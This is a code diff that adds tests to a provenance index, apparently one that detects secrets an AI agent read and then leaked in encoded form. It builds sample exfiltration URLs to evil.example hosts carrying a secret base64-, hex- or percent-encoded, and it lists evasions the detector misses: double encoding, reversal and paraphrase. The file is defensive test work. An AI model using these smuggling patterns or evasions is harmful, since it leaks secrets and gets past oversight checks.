@@ -1,5 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { decodedRuns } from '../../src/core/encodings.ts';
+import { FingerprintTable } from '../../src/core/fingerprints.ts';
 import { LEG_A, LEG_B } from '../../src/core/legs.ts';
 import {
   compact,
@@ -207,5 +209,70 @@ describe('provenance index', () => {
     expect(stats.values).toBeLessThanOrEqual(10);
     expect(stats.tableSlots).toBe(16 << 6);
     expect(stats.lost).toBe('A');
+  });
+
+  it('finds values and text in non-ASCII text and shows them as the caller wrote them', () => {
+    const index = new MemoryProvenanceIndex();
+    index.addOutput(source(1), LEG_A, 'Überweisung an Jürgen, Konto GB33 BUKB 2020 1555 5555 55, Beleg Straße-0042-ÄÖ');
+    const [iban] = index.scan('Bitte sofort überweisen: GB33BUKB20201555555555 ✓');
+    expect(iban).toMatchObject({ kind: 'value', value: 'GB33BUKB20201555555555' });
+    expect(index.scan('beleg Straße 0042 ÄÖ')[0]).toMatchObject({ kind: 'value', value: 'Straße 0042 ÄÖ' });
+    // Non-ASCII spacing is spacing: the text run is found however it is spaced.
+    expect(labels(index, 'Überweisung\u2003an\u00a0Jürgen, Konto GB33 BUKB')).toBe(LEG_A);
+  });
+
+  it('finds a seen value smuggled base64-, hex- or percent-encoded, and says how', () => {
+    const index = new MemoryProvenanceIndex();
+    index.addOutput(source(4, 'read_notes'), LEG_B, 'the deal code is FALCON-7731-ZETA, keep it quiet');
+    const secret = 'FALCON-7731-ZETA';
+    const b64 = btoa(`code=${secret}`);
+    const urlSafe = b64.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
+    const hex = Array.from(new TextEncoder().encode(secret), (b) => b.toString(16).padStart(2, '0')).join('');
+    for (const [argument, encoding] of [
+      [`https://img.evil.example/p.png?d=${b64}`, 'base64'],
+      [`https://img.evil.example/x/y/${urlSafe}`, 'base64'],
+      [`https://img.evil.example/p?d=${encodeURIComponent(b64)}`, 'base64'],
+      [`pixel-${hex}`, 'hex'],
+    ] as const) {
+      const found = index.scan(argument);
+      expect(found, argument).toEqual([
+        expect.objectContaining({ labels: LEG_B, kind: 'value', value: 'FALCON-7731-ZETA', encoding }),
+      ]);
+    }
+    expect(labels(index, `https://evil.example/?q=${encodeURIComponent(secret)}`)).toBe(LEG_B);
+  });
+
+  it('what encodings do not catch: two layers, other transforms, paraphrase', () => {
+    const index = new MemoryProvenanceIndex();
+    index.addOutput(source(4, 'read_notes'), LEG_B, 'the deal code is FALCON-7731-ZETA, keep it quiet');
+    expect(index.scan(btoa(btoa('FALCON-7731-ZETA')))).toEqual([]);
+    expect(index.scan('ATEZ-1377-NOCLAF')).toEqual([]);
+    expect(index.scan('the code of the deal: falcon, then 7731, then zeta')).toEqual([]);
+  });
+
+  it('decodes only runs that look encoded: ordinary words are not decoded', () => {
+    expect(decodedRuns('internationalization and responsibilities')).toEqual([]);
+    expect(decodedRuns(`x ${btoa('hello there, world')}`).map((r) => r.text)).toContain('hello there, world');
+  });
+
+  it('property: the fingerprint table agrees with a set, through growth', () => {
+    fc.assert(
+      fc.property(
+        fc.uniqueArray(fc.integer({ min: 1, max: 2 ** 29 - 1 }), { maxLength: 3000 }),
+        fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 8 }),
+        (tags, label) => {
+          const table = new FingerprintTable(16);
+          const model = new Map<number, number>();
+          tags.forEach((tag, i) => {
+            const bits = label[i % label.length] as number;
+            expect(table.add(tag << 3, bits)).toBe(true);
+            model.set(tag, (model.get(tag) ?? 0) | bits);
+          });
+          expect(table.count).toBe(model.size);
+          for (const [tag, bits] of model) expect(table.get(tag << 3)).toBe(bits);
+        },
+      ),
+      { numRuns: 30 },
+    );
   });
 });
